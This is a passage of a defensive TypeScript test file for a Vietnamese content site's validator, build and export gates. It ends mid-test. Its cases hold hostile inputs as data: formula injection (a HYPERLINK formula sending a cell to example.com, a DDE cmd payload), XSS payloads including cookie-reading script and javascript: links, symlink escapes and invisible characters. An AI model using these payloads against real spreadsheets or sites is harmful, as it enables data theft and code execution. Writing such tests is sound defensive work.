/**
 * Same verdict at every gate, on hostile but realistic entries: each case below is one entry
 * in a real content tree, copied from the sample content, and goes through
 *  - `npm run validate` (exit code; the Vietnamese message naming the file and the line),
 *  - `npm run build` (refused, naming every invalid file at once with the validator's very
 *    lines; a bare `astro build` is tests/build/gate.test.ts's) and, for the valid cases, what
 *    a reader gets in dist/: the page (decoded text, no live script or link), the open data
 *    (/du-lieu/initiatives.csv and .json) and the entry's own attachment,
 *  - the site's Markdown pipeline alone (astro.config.mjs), for content that skipped validation,
 *  - `npm run report` (CSV and XLSX), for the entry merged on `main` and for the same entry
 *    pending on the branch the admin saves it on.
 * Valid cases share one site build; invalid ones are refused together by a build of the tree
 * holding every case.
 */
import { execFileSync, spawn } from 'node:child_process';
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createSatteriMarkdownProcessor } from '@astrojs/markdown-satteri';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Element, Nodes, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import config from '../../astro.config.mjs';
import { cleanEnv } from '../../scripts/build/build-site.ts';
import { copyProject, projectRoot } from '../../scripts/build/project-copy.ts';
import { statusNames } from '../../scripts/report/build.ts';
import { branchOfSlug } from '../../scripts/report/source.ts';
import { neutraliseCellText, restoreCellText } from '../../src/core/spreadsheet.ts';
import { HEADERS, SHEETS } from '../../src/documents/committee/columns.ts';
import { isSafeUrl } from '../../src/lib/markdown-safety.ts';
import { columns } from '../../src/lib/opendata.ts';
import { type OpenDataDocument, openDataJsonSchema } from '../../src/lib/opendata-schema.ts';
import { telHref } from '../../src/lib/site.ts';
import { collections, pathOf, placeOf } from '../../src/model/collections.ts';
import { parseEntryText } from '../../src/model/read.ts';
import { initiativeSchema } from '../../src/schemas/index.ts';
import type { ValidationReport } from '../../src/validator/types.ts';
import { git, makeRepo } from '../support/git-fixture.ts';
import { sampleOperator } from '../support/sample-operator.ts';

const SAMPLE = 'nhac-han-tu-dong-tren-he-thong-mot-cua-dien-tu-cho-ho-so-dat-dai';
const IMAGE = 'bieu-do-ho-so-tre-hen.png';
const CAMPAIGN = '2024-tanh-linh';
const sampleFolder = join(projectRoot, placeOf(collections.initiatives, SAMPLE));
const sampleText = readFileSync(join(sampleFolder, 'index.md'), 'utf8');
const image = readFileSync(join(sampleFolder, IMAGE));
/** Bytes no sample file holds: a copy of them anywhere in dist/ is a followed link. */
const OUTSIDE_BYTES = Buffer.concat([image.subarray(0, 16), Buffer.from('tệp ngoài kho 7f3a')]);

/** Where a symbolic link points: a PNG outside the repository, or a file of another entry. */
type Link = { link: 'outside' } | { link: 'other-entry'; file: string };

interface Case {
  slug: string;
  what: string;
  /** Front-matter values as written in YAML (already quoted or escaped as a submitter would). */
  yaml?: { title?: string; summary?: string; author?: string; indicator?: string };
  /** A paragraph added at the end of the body. */
  body?: string;
  /** Files of the entry folder (index.md and the sample's image by default): links or text. */
  files?: Record<string, Link | string>;
  /** The entry folder itself is a link to another entry's folder. */
  folderLink?: boolean;
  /** For an invalid case: the rules that must refuse it, and text on the line they must name. */
  refused?: { codes: string[]; at?: string };
  /** For a valid case: text a reader must see, decoded, in the page. */
  shows?: string[];
}

const q = (text: string) => JSON.stringify(text);

const cases: Case[] = [
  // Valid, yet hostile to a spreadsheet or a browser.
  {
    slug: 'tieu-de-cong-thuc-hyperlink',
    what: 'a title that is a spreadsheet formula',
    yaml: { title: q('=HYPERLINK("https://example.com/?q="&A1,"Bấm vào đây để tra cứu")') },
    shows: ['=HYPERLINK("https://example.com/?q="&A1,"Bấm vào đây để tra cứu")'],
  },
  {
    slug: 'tieu-de-dau-cong-lenh',
    what: 'a title starting with + and a summary starting with -',
    yaml: {
      title: q("+cmd|' /C calc'!A0 tra cứu hồ sơ trên bảng điện tử"),
      summary: q(
        '-2+3 ngày là thời gian giải quyết được rút ngắn nhờ bảng điện tử tại bộ phận một cửa, theo dõi từng khâu của hồ sơ đất đai.',
      ),
    },
    shows: ["+cmd|' /C calc'!A0 tra cứu hồ sơ trên bảng điện tử", '-2+3 ngày là thời gian'],
  },
  {
    slug: 'tieu-de-a-cong-tac-gia-bang',
    what: 'a title starting with @ and an author name starting with =',
    yaml: { title: q('@SUM(1,2) sổ theo dõi hồ sơ liên thông'), author: q('=1+1 Trần Văn Hùng') },
    shows: ['@SUM(1,2) sổ theo dõi hồ sơ liên thông', '=1+1 Trần Văn Hùng'],
  },
  {
    slug: 'tieu-de-tab-xuong-dong',
    what: 'a title and a summary starting with a tab or a carriage return (YAML escapes)',
    yaml: {
      title: '"\\t=1+1 bảng kê phí chứng thực tự động"',
      summary:
        '"\\r=1+1 là công thức mà bảng kê phí chứng thực cũ bắt công chức nhập tay cho từng hồ sơ mỗi ngày."',
    },
    shows: ['=1+1 bảng kê phí chứng thực tự động'],
  },
  {
    slug: 'tieu-de-nhay-don-va-chi-so-cong-thuc',
    what: 'a title already starting with an apostrophe and an indicator named like a formula',
    yaml: { title: q("'=1+1 phiếu hẹn trả kết quả in sẵn"), indicator: q('=1+1 hồ sơ nhắc hạn') },
    shows: ["'=1+1 phiếu hẹn trả kết quả in sẵn", '=1+1 hồ sơ nhắc hạn'],
  },
  {
    slug: 'ma-html-da-thoat-va-ma-nguon',
    what: 'HTML written as escaped text, in a code span and as entities',
    body: 'Mẫu cũ chèn \\<script>alert(1)\\</script> và `<img src=x onerror=alert(1)>` vào trang, còn &lt;iframe&gt; thì không; xem [Cổng dịch vụ công](https://dichvucong.gov.vn/p/home/dvc-trang-chu.html).',
    shows: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<iframe>'],
  },
  {
    slug: 'so-van-ban-va-so-tien',
    what: 'document numbers, dates and amounts (not personal data)',
    yaml: { title: q('Nhắc hạn theo Kế hoạch 2992/KH-UBND cho hồ sơ liên thông') },
    body: 'Theo Kế hoạch số 2992/KH-UBND ngày 20/08/2024 và Nghị định số 13/2012/NĐ-CP, kinh phí là 12.345.000 đồng; mã hồ sơ H08.22-240820-0001; năm 2023 có 3.412 hồ sơ.',
    shows: ['12.345.000 đồng', 'H08.22-240820-0001'],
  },
  // Symbolic links: refused, never followed or copied.
  {
    slug: 'dinh-kem-lien-ket-ra-ngoai-kho',
    what: 'an attachment that is a link to a file outside the repository',
    files: { [IMAGE]: { link: 'outside' } },
    refused: { codes: ['attachments.symlink'], at: `- file: ${IMAGE}` },
  },
  {
    slug: 'dinh-kem-lien-ket-bai-khac',
    what: "an attachment that is a link to another entry's file",
    files: { [IMAGE]: { link: 'other-entry', file: IMAGE } },
    refused: { codes: ['attachments.symlink'], at: `- file: ${IMAGE}` },
  },
  {
    slug: 'lien-ket-an-sau-gitattributes',
    what: 'a hidden link that a .gitattributes asks git archive to leave out',
    files: {
      '.ban-sao.png': { link: 'outside' },
      '.gitattributes': '.ban-sao.png export-ignore\n',
    },
    refused: { codes: ['attachments.symlink'] },
  },
  {
    slug: 'bai-la-lien-ket-bai-khac',
    what: "an index.md that is a link to another entry's",
    files: { 'index.md': { link: 'other-entry', file: 'index.md' } },
    refused: { codes: ['file.symlink'] },
  },
  {
    slug: 'thu-muc-la-lien-ket-bai-khac',
    what: "an entry folder that is a link to another entry's folder",
    folderLink: true,
    refused: { codes: ['file.symlink'] },
  },
  {
    slug: 'lien-ket-an-khong-khai-bao',
    what: 'a hidden, undeclared link beside the entry',
    files: { '.ban-sao.png': { link: 'outside' } },
    refused: { codes: ['attachments.symlink'] },
  },
  // Personal data, however it is written.
  {
    slug: 'so-dien-thoai-dau-cham',
    what: 'a mobile number with dots',
    body: 'Cần hỗ trợ, gọi chị Lan: 0912.345.678 trong giờ hành chính.',
    refused: { codes: ['personal-data.value'], at: 'gọi chị Lan' },
  },
  {
    slug: 'so-dien-thoai-dia-chi-zalo',
    what: 'a mobile number as the end of a web address (autolinked by the site)',
    body: 'Nhắn tin hỗ trợ qua https://zalo.me/0912345678 trong giờ hành chính.',
    refused: { codes: ['personal-data.value'], at: 'Nhắn tin hỗ trợ' },
  },
  {
    slug: 'so-dien-thoai-chu-so-toan-khoang',
    what: 'a mobile number in full-width digits',
    body: 'Số máy của bộ phận: ０９１２　３４５　６７８ (gọi giờ hành chính).',
    refused: { codes: ['personal-data.value'], at: 'Số máy của bộ phận' },
  },
  {
    slug: 'so-dien-thoai-tham-chieu-html',
    what: 'a mobile number written as HTML character references',
    body: 'Gọi &#48;912&#32;345&#32;678 để được hướng dẫn.',
    refused: { codes: ['personal-data.value'], at: 'để được hướng dẫn' },
  },
  {
    slug: 'so-dien-thoai-thoat-yaml',
    what: 'a mobile number behind a YAML escape in the summary',
    yaml: {
      summary:
        '"Bảng điện tử nhắc hạn từng khâu của hồ sơ đất đai; cần hỗ trợ xin gọi \\u0030912 345 678 trong giờ hành chính."',
    },
    refused: { codes: ['personal-data.value'], at: 'summary:' },
  },
  {
    slug: 'so-dien-thoai-84-o-tieu-de',
    what: 'a +84 number as the title (also a formula start)',
    yaml: { title: q('+84 912 345 678 đường dây nóng hỗ trợ thủ tục đất đai') },
    refused: { codes: ['personal-data.value'], at: 'title:' },
  },
  {
    slug: 'so-can-cuoc-cong-dan',
    what: 'a CCCD number in groups',
    body: 'Ví dụ hồ sơ của ông Bình, CCCD 052 190 001 234, được trả đúng hẹn.',
    refused: { codes: ['personal-data.value'], at: 'ông Bình' },
  },
  {
    slug: 'thu-dien-tu-tham-chieu-html',
    what: 'an e-mail address with the @ as an HTML reference',
    body: 'Góp ý gửi về lan.nguyen&#64;tanhlinh.gov.vn trước ngày 30.',
    refused: { codes: ['personal-data.value'], at: 'Góp ý gửi về' },
  },
  {
    slug: 'thu-dien-tu-o-ten-tac-gia',
    what: 'an author name that is a formula holding an e-mail address',
    yaml: { author: q('=HYPERLINK("mailto:hung.tran@tanhlinh.gov.vn","Trần Văn Hùng")') },
    refused: { codes: ['personal-data.value'], at: 'HYPERLINK' },
  },
  // Invisible and direction-changing characters a reader gets but the source hides.
  {
    slug: 'ky-tu-vo-hinh-tham-chieu-html',
    what: 'a zero-width space as an HTML reference',
    body: 'Một&#8203;cửa điện tử nhắc hạn từng khâu.',
    refused: { codes: ['unicode.invisible'], at: 'nhắc hạn từng khâu.' },
  },
  {
    slug: 'ky-tu-vo-hinh-thoat-yaml',
    what: 'a zero-width space behind a YAML escape in the title',
    yaml: { title: '"Nhắc hạn tự\\u200bđộng cho hồ sơ liên thông đất đai"' },
    refused: { codes: ['unicode.invisible'], at: 'title:' },
  },
  {
    slug: 'ky-tu-dao-chieu-thoat-yaml',
    what: 'a right-to-left override behind a YAML escape in the summary',
    yaml: {
      summary:
        '"Bảng điện tử nhắc hạn từng khâu \\u202egnod ial ial\\u202c của hồ sơ đất đai, giảm tỷ lệ trễ hẹn của huyện."',
    },
    refused: { codes: ['unicode.invisible'], at: 'summary:' },
  },
  {
    slug: 'chu-to-hop-tham-chieu-html',
    what: 'a decomposed letter (not NFC) written as an HTML reference',
    body: 'Lập lịch hẹn va&#768; nhắc hạn tự động.',
    refused: { codes: ['unicode.nfc'], at: 'Lập lịch hẹn va' },
  },
  {
    slug: 'chu-to-hop-thoat-yaml',
    what: 'a decomposed letter (not NFC) behind a YAML escape in the title',
    yaml: { title: '"Nhắc hạn tự động va\\u0300 liên thông hồ sơ đất đai"' },
    refused: { codes: ['unicode.nfc'], at: 'title:' },
  },
  // Markdown that would run code in a browser.
  {
    slug: 'the-script-trong-noi-dung',
    what: 'a raw <script> element',
    body: '<script>alert(document.cookie)</script>',
    refused: { codes: ['safety.script'], at: '<script>' },
  },
  {
    slug: 'anh-co-onerror',
    what: 'raw HTML with an event handler',
    body: 'Xem ảnh <img src=x onerror="alert(1)"> tại quầy.',
    refused: { codes: ['safety.html'], at: 'Xem ảnh' },
  },
  {
    slug: 'lien-ket-tham-chieu-javascript',
    what: 'a reference-style link whose definition is javascript:',
    body: 'Tải [biểu mẫu][bm] tại đây.\n\n[bm]: javascript:alert(1)',
    refused: { codes: ['safety.url'], at: '[bm]: javascript' },
  },
  {
    slug: 'lien-ket-javascript-tab-tham-chieu',
    what: 'a javascript: link with a tab written as an HTML reference',
    body: 'Bấm [vào đây](jav&#x09;ascript:alert(1)) để tải biểu mẫu.',
    refused: { codes: ['safety.url'], at: 'để tải biểu mẫu' },
  },
];

const validCases = cases.filter((item) => !item.refused);
const invalidCases = cases.filter((item) => item.refused);
const PENDING = '-cho-duyet';

/** The entry's index.md: the sample's, with this case's title, values and paragraph. */
function entryText(item: Case): string {
  let text = sampleText.replace(
    /^title: .*$/m,
    `title: ${item.yaml?.title ?? q(`Bài thử cổng ${item.slug.replaceAll('-', ' ')}`)}`,
  );
  if (item.yaml?.summary) text = text.replace(/^summary: .*$/m, `summary: ${item.yaml.summary}`);
  if (item.yaml?.author) text = text.replace(/^ {2}- name: .*$/m, `  - name: ${item.yaml.author}`);
  if (item.yaml?.indicator) {
    // The sample's first indicator becomes one of the "other" kind, named by the submitter.
    text = text.replace(
      /^ {2}- kind: late-dossier-rate\n {4}label: .*$/m,
      `  - kind: other\n    label: ${item.yaml.indicator}\n    unit: hồ sơ\n    better: lower`,
    );
  }
  if (item.body) text = `${text.trimEnd()}\n\n${item.body}\n`;
  return text;
}

/** The values as the one reader and the schema give them to the pages and the report. */
function valuesOf(item: Case) {
  const data = initiativeSchema.parse(parseEntryText(entryText(item)).data);
  return { title: data.title ?? '', summary: data.summary, author: data.authors[0]?.name ?? '' };
}

/** 1-based line of the entry file that holds `text`. */
function lineOf(item: Case, text: string): number {
  const index = entryText(item)
    .split('\n')
    .findIndex((line) => line.includes(text));
  if (index < 0) throw new Error(`"${text}" không có trong bài ${item.slug}`);
  return index + 1;
}

/** A case's files, by path in the repository: bytes, or the target of a symbolic link. */
function caseFiles(item: Case, outside: string, slug = item.slug) {
  const folder = placeOf(collections.initiatives, slug);
  const out = new Map<string, Buffer | { symlink: string }>();
  if (item.folderLink) return out.set(folder, { symlink: SAMPLE });
  const files: Record<string, Link | Buffer | string> = {
    'index.md': Buffer.from(entryText(item)),
    [IMAGE]: image,
    ...item.files,
  };
  for (const [name, file] of Object.entries(files)) {
    out.set(
      `${folder}/${name}`,
      Buffer.isBuffer(file) || typeof file === 'string'
        ? Buffer.from(file)
        : { symlink: file.link === 'outside' ? outside : `../${SAMPLE}/${file.file}` },
    );
  }
  return out;
}

function writeCase(root: string, item: Case, outside: string): void {
  for (const [path, file] of caseFiles(item, outside)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    if (Buffer.isBuffer(file)) writeFileSync(join(root, path), file);
    else symlinkSync(file.symlink, join(root, path));
  }
}

const entryPath = (slug: string) => pathOf(collections.initiatives, slug);
/** The path the validator reports a case under: its index.md, or a linked folder itself. */
const reportedPath = (item: Case) =>
  item.folderLink ? placeOf(collections.initiatives, item.slug) : entryPath(item.slug);

/** What `astro build` sees when a maintainer runs it: no test runner variables. */
const env = () => ({ ...cleanEnv(), ASTRO_TELEMETRY_DISABLED: '1' });

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

/** A command of the project, run as a maintainer runs it; the gates run side by side. */
function run(args: string[], cwd: string): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, args, { cwd, env: env() });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
      stdout += chunk;
    });
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => {
      stderr += chunk;
    });
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

/** A site project around the sample content plus the given cases. */
function siteTree(prefix: string, chosen: readonly Case[], outside: string): string {
  const root = mkdtempSync(join(tmpdir(), prefix));
  copyProject(root);
  cpSync(join(projectRoot, 'content'), join(root, 'content'), { recursive: true });
  for (const item of chosen) writeCase(root, item, outside);
  return root;
}

// ---------------------------------------------------------------------------------------------
// Reading outputs as a browser and a spreadsheet program do.

function* elements(node: Nodes): Generator<Element> {
  if (node.type === 'element') yield node;
  if ('children' in node) for (const child of node.children) yield* elements(child as Nodes);
}

/** Decoded text of a tree, as a reader sees it (templates and scripts are not shown). */
function textOf(node: Nodes): string {
  if (node.type === 'text') return node.value;
  if (node.type === 'element' && ['script', 'style', 'template'].includes(node.tagName)) return '';
  return 'children' in node ? node.children.map((child) => textOf(child as Nodes)).join('') : '';
}

/** An address as a browser reads it: tabs and line breaks dropped, controls trimmed at both ends. */
function schemeOf(url: string): string | undefined {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers strip exactly these.
  const read = url.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '');
  return /^([a-z][a-z0-9+.-]*):/i.exec(read)?.[1]?.toLowerCase();
}

/** The agency's contact links in the footer: from the operator's organiser file, never from an entry. */
const operatorContacts = [telHref(sampleOperator.phone), `mailto:${sampleOperator.email}`];

/**
 * A page's own addresses: on the site, or http(s) (the site's absolute URL, an https link);
 * besides those, only the agency's own phone and e-mail links.
 */
const pageUrl = (url: string) =>
  ['http', 'https', undefined].includes(schemeOf(url)) || operatorContacts.includes(url);

/**
 * Nothing in the HTML runs or links to script: no inline script or event handler, no frame or
 * object, every script a file of the site, every address one that `urlOk` accepts.
 */
function expectInert(html: string, where: string, urlOk: (url: string) => boolean): Root {
  const tree = fromHtml(html);
  for (const element of elements(tree)) {
    const properties = element.properties;
    for (const key of Object.keys(properties)) {
      expect(/^on/i.test(key), `${where}: <${element.tagName} ${key}>`).toBe(false);
    }
    if (element.tagName === 'script') {
      const src = String(properties.src ?? '');
      expect(src.startsWith('/') && !src.startsWith('//'), `${where}: <script src="${src}">`).toBe(
        true,
      );
    }
    expect(['iframe', 'object', 'embed', 'frame', 'base', 'form'], where).not.toContain(
      element.tagName,
    );
    for (const key of ['href', 'src', 'action', 'formAction', 'srcSet', 'poster', 'data']) {
      const value = properties[key];
      if (value === undefined || value === null) continue;
      const url = Array.isArray(value) ? value.join(' ') : String(value);
      expect(urlOk(url), `${where}: ${key}="${url}"`).toBe(true);
    }
  }
  return tree;
}

/** A CSV field as the spreadsheet rule (src/core/spreadsheet.ts) leaves any text it writes. */
function expectNeutralField(field: string, where: string): void {
  if (/^-?\d+(?:\.\d+)?$/.test(field)) return; // a number, written as a number
  expect(neutraliseCellText(restoreCellText(field)), `${where}: ${JSON.stringify(field)}`).toBe(
    field,
  );
  expect(field, where).not.toMatch(/^[\s]*[=+\-@\t\r]/);
}

// ---------------------------------------------------------------------------------------------

let outsideDir: string;
let outsideFile: string;
let fullRoot: string;
let validRoot: string;
let reportRoot: string;
let reportOut: string;
let cliJson: ValidationReport;
let cliText: Run;
let validCli: Run;
let refusedBuild: Run;
let validBuild: { status: number | null; output: string };
let reportRun: { status: number | null; output: string };

/** Every case merged on main, and again pending on the branch the admin saves it on. */
function reportRepository(): string {
  const root = makeRepo(projectRoot, {}, true);
  for (const item of cases) writeCase(root, item, outsideFile);
  git(root, 'add', '-A');
  git(root, 'commit', '-q', '-m', 'Các bài thử');
  // One branch per pending copy, the commits the admin's Save makes, in one git process.
  const main = git(root, 'rev-parse', 'main');
  const data = (bytes: Buffer) => [Buffer.from(`data ${bytes.length}\n`), bytes, Buffer.from('\n')];
  const stream: Buffer[] = [];
  const descriptions: string[] = [];
  for (const item of cases) {
    const slug = `${item.slug}${PENDING}`;
    const branch = branchOfSlug(slug);
    stream.push(Buffer.from(`commit refs/heads/${branch}\n`));
    stream.push(Buffer.from('committer Kiểm thử <kiem-thu@example.invalid> 1725000000 +0700\n'));
    stream.push(
      ...data(Buffer.from(`Create Initiatives “${slug}”`)),
      Buffer.from(`from ${main}\n`),
    );
    for (const [path, file] of caseFiles(item, outsideFile, slug)) {
      const link = !Buffer.isBuffer(file);
      stream.push(Buffer.from(`M ${link ? '120000' : '100644'} inline ${path}\n`));
      stream.push(...data(link ? Buffer.from(file.symlink) : file));
    }
    // What `git config branch.<name>.description` writes, for every branch at once.
    descriptions.push(`[branch "${branch}"]\n\tdescription = decap-cms/pending_review\n`);
  }
  execFileSync('git', ['fast-import', '--quiet'], { cwd: root, input: Buffer.concat(stream) });
  appendFileSync(join(root, '.git', 'config'), descriptions.join(''));
  return root;
}

beforeAll(async () => {
  outsideDir = mkdtempSync(join(tmpdir(), 'kho-ngoai-kho-'));
  outsideFile = join(outsideDir, 'bieu-do-ngoai-kho.png');
  writeFileSync(outsideFile, OUTSIDE_BYTES);
  fullRoot = siteTree('kho-gates-all-', cases, outsideFile);
  validRoot = siteTree('kho-gates-valid-', validCases, outsideFile);

  const validate = join(projectRoot, 'scripts/validate.ts');
  const build = join(projectRoot, 'scripts/build/site.ts');
  const runs = Promise.all([
    run([validate, '--format', 'json', '--no-cache'], fullRoot),
    run([validate, '--no-cache'], fullRoot),
    run([validate, '--no-cache'], validRoot),
    run([build], fullRoot),
    run([build], validRoot),
  ]);
  // The report's repository is made while those run.
  reportRoot = reportRepository();
  reportOut = mkdtempSync(join(tmpdir(), 'kho-gates-report-'));
  const report = await run(
    [
      join(projectRoot, 'scripts/report.ts'),
      ...['--repo', reportRoot, '--campaign', CAMPAIGN, '--out', reportOut],
      ...['--format', 'xlsx,csv'],
    ],
    projectRoot,
  );
  reportRun = { status: report.status, output: `${report.stdout}\n${report.stderr}` };
  const [json, text, valid, refused, built] = await runs;
  cliJson = JSON.parse(json.stdout) as ValidationReport;
  cliText = text;
  validCli = valid;
  refusedBuild = refused;
  validBuild = { status: built.status, output: `${built.stdout}\n${built.stderr}` };
}, 600_000);

afterAll(() => {
  for (const dir of [outsideDir, fullRoot, validRoot, reportRoot, reportOut]) {
    if (dir) rmSync(dir, { recursive: true, force: true });
  }
});

/** The validator's errors for one entry, as `npm run validate` printed them. */
function errorLines(item: Case): string[] {
  const path = reportedPath(item);
  return cliText.stdout
    .split('\n')
    .filter(
      (line) =>
        /^[:\d]* {2}lỗi {2}/.test(line.slice(`  ${path}`.length)) && line.startsWith(`  ${path}`),
    );
}

/** Read once, on first use: every case looks into the same outputs. */
function once<T>(read: () => T): () => T {
  let value: { read: T } | undefined;
  return () => {
    value ??= { read: read() };
    return value.read;
  };
}

/** The open data's id column, as the page that documents the columns names it. */
const ID_HEADER = columns((id) => id).find((column) => column.key === 'id')?.header ?? '';

const siteMarkdown = once(() =>
  createSatteriMarkdownProcessor({
    // The site's own pipeline (astro.config.mjs), plugins and features as configured there.
    ...config.markdown?.processor?.options,
    syntaxHighlight: false,
  } as Parameters<typeof createSatteriMarkdownProcessor>[0]),
);

const openData = once(() => {
  const dataDir = join(validRoot, 'dist', 'du-lieu');
  const document = JSON.parse(
    readFileSync(join(dataDir, 'initiatives.json'), 'utf8'),
  ) as OpenDataDocument;
  const schema = JSON.parse(readFileSync(join(dataDir, 'initiatives.schema.json'), 'utf8'));
  const csv = parseCsv(readFileSync(join(dataDir, 'initiatives.csv'), 'utf8'), {
    bom: true,
    columns: true,
  }) as Record<string, string>[];
  return { document, schema, json: document.initiatives, csv };
});

const reportCsv = once(
  () =>
    parseCsv(readFileSync(join(reportOut, `tong-hop-${CAMPAIGN}.csv`), 'utf8'), {
      bom: true,
      columns: true,
    }) as Record<string, string>[],
);

const reportBook = once(async () => {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(join(reportOut, `tong-hop-${CAMPAIGN}.xlsx`));
  return book;
});

/** The messages of the errors `npm run validate` gave for a case. */
function validatorErrors(item: Case): string[] {
  return (
    cliJson.files
      .find((each) => each.path === reportedPath(item))
      ?.problems.filter((problem) => problem.severity === 'error')
      .map((problem) => problem.message) ?? []
  );
}

describe('the gates run', () => {
  test('npm run validate exits 1 on the tree with every case, 0 on the valid cases', () => {
    expect(cliText.status).toBe(1);
    expect(validCli.status, validCli.stdout).toBe(0);
    expect(validCli.stdout).toMatch(/: 0 lỗi, \d+ cảnh báo\.\n$/);
  });

  test('npm run build refuses the tree with every case without a stack trace, and builds no page', () => {
    expect(refusedBuild.status).not.toBe(0);
    expect(refusedBuild.stderr).toContain('Nội dung chưa hợp lệ, không dựng trang');
    expect(refusedBuild.stderr).not.toMatch(/^\s+at /m);
    expect(existsSync(join(fullRoot, 'dist'))).toBe(false);
  });

  test('npm run build builds the valid cases', () => {
    expect(validBuild.status, validBuild.output.slice(-3000)).toBe(0);
  });

  test('open data: the JSON validates against the JSON Schema published beside it, generated from the model', () => {
    const { document, schema } = openData();
    expect(document.$schema).toBe(schema.$id);
    expect(schema).toEqual(openDataJsonSchema(schema.$id));
    const validate = new Ajv2020({ strict: true, allErrors: true }).compile(schema);
    expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
    expect(document.count).toBe(document.initiatives.length);
    // The page says under which licence, as of which date, and links the schema.
    const page = readFileSync(join(validRoot, 'dist', 'du-lieu', 'index.html'), 'utf8');
    expect(page).toContain(`href="${document.licence.url}"`);
    expect(page).toContain('initiatives.schema.json');
    const [year, month, day] = (document.modified ?? '').split('-');
    expect(page).toContain(`Ngày dữ liệu: ${day}/${month}/${year}`);
  });

  test('npm run report writes the CSV and the workbook', () => {
    expect(reportRun.status, reportRun.output).toBe(0);
    expect(reportRun.output).toContain(`(${invalidCases.length * 2} cần sửa)`);
  });
});

describe.each(cases)('$slug: $what', (item) => {
  const path = reportedPath(item);
  const verdict = item.refused ? 'refused' : 'accepted';

  test(`npm run validate: ${verdict}`, () => {
    const file = cliJson.files.find((each) => each.path === path);
    const errors = file?.problems.filter((problem) => problem.severity === 'error') ?? [];
    if (!item.refused) {
      expect(errors).toEqual([]);
      expect(errorLines(item)).toEqual([]);
      return;
    }
    expect(file?.ok).toBe(false);
    for (const code of item.refused.codes) {
      const problem = errors.find((each) => each.code === code);
      expect(problem, `${code} in ${JSON.stringify(errors)}`).toBeDefined();
      if (item.refused.at) expect(problem?.line).toBe(lineOf(item, item.refused.at));
      // The Vietnamese line a submitter reads: file, line, message, rule.
      const where = item.refused.at ? `${path}:${lineOf(item, item.refused.at)}` : path;
      expect(errorLines(item).join('\n')).toContain(
        `  ${where}  lỗi  ${problem?.message}  [${code}]`,
      );
    }
  });

  test(`npm run build: ${verdict}`, () => {
    if (item.refused) {
      // The same lines as the validator's, for this file, in the build's refusal.
      const lines = errorLines(item);
      expect(lines.length).toBeGreaterThan(0);
      for (const line of lines) expect(refusedBuild.stderr).toContain(line);
      // Neither build published anything of it, nor anything reached through a link.
      expect(existsSync(join(validRoot, 'dist', 'sang-kien', item.slug))).toBe(false);
      return;
    }
    expect(refusedBuild.stderr).not.toContain(path);
    const page = join(validRoot, 'dist', 'sang-kien', item.slug, 'index.html');
    const tree = expectInert(readFileSync(page, 'utf8'), page, pageUrl);
    const values = valuesOf(item);
    const h1 = [...elements(tree)].find((element) => element.tagName === 'h1');
    // The page shows the text as written: no apostrophe, nothing run, nothing dropped.
    expect(h1 && textOf(h1)).toBe(values.title);
    const title = [...elements(tree)].find((element) => element.tagName === 'title');
    expect(title && textOf(title)).toContain(values.title);
    const article = [...elements(tree)].find((element) => element.tagName === 'article');
    const shown = article ? textOf(article) : '';
    expect(shown).toContain(values.summary);
    for (const text of item.shows ?? []) expect(shown).toContain(text);
    // Its attachment is the entry's own file.
    expect(readFileSync(join(dirname(page), IMAGE))).toEqual(image);
  });

  // What a submitter wrote in the body reaches the site's renderer only through the build;
  // rendered here alone, as if it had skipped the validator.
  if (item.body) {
    test('site Markdown pipeline, without the validator: inert', async () => {
      const processor = await siteMarkdown();
      const { body } = parseEntryText(entryText(item));
      const rendered = await processor.render(body, {
        fileURL: new URL(`file:///kho/${entryPath(item.slug)}`),
      });
      // A body's links: https or the entry's own files only (the sanitiser's rule).
      const tree = expectInert(rendered.code, `${item.slug} (Markdown)`, isSafeUrl);
      // Raw HTML is shown as text, never dropped silently: the reviewer sees what was written.
      if (item.refused?.codes.some((code) => code === 'safety.script' || code === 'safety.html')) {
        expect(textOf(tree)).toContain(item.body?.match(/<[^>]+>/)?.[0]);
      }
      for (const text of item.shows ?? []) expect(textOf(tree)).toContain(text);
    });
  }

  test(`open data (/du-lieu/initiatives.csv and .json): ${item.refused ? 'absent' : 'neutralised in the CSV, exact in the JSON'}`, () => {
    const data = openData();
    const record = data.csv.find((each) => each[ID_HEADER] === item.slug);
    const object = data.json.find((each) => each.id === item.slug);
    if (item.refused) {
      expect(record).toBeUndefined();
      expect(object).toBeUndefined();
      return;
    }
    if (!record || !object) throw new Error(`${item.slug} thiếu trong dữ liệu mở`);
    const values = valuesOf(item);
    expect(object.title).toBe(values.title);
    expect(object.summary).toBe(values.summary);
    expect(object.authors.map((author) => author.name)).toContain(values.author);
    // The CSV says what the JSON says, each text cell as the spreadsheet rule writes it.
    const headers = Object.keys(record);
    const keys = Object.keys(object) as (keyof typeof object)[];
    expect(headers).toHaveLength(keys.length);
    keys.forEach((key, index) => {
      const value = object[key];
      const field = record[headers[index] as string] as string;
      expectNeutralField(field, `${item.slug}.${key}`);
      if (typeof value === 'string') expect(field, key).toBe(neutraliseCellText(value));
      if (value === null) expect(field, key).toBe('');
    });
    expect(record[headers[keys.indexOf('title')] as string]).toBe(neutraliseCellText(values.title));
    // A list is one cell, its items joined: the author's name is in it, the cell neutralised.
    expect(restoreCellText(record[headers[keys.indexOf('authors')] as string] ?? '')).toContain(
      values.author,
    );
  });

  test(`npm run report, CSV: ${verdict}, merged and pending`, () => {
    const records = reportCsv();
    for (const slug of [item.slug, `${item.slug}${PENDING}`]) {
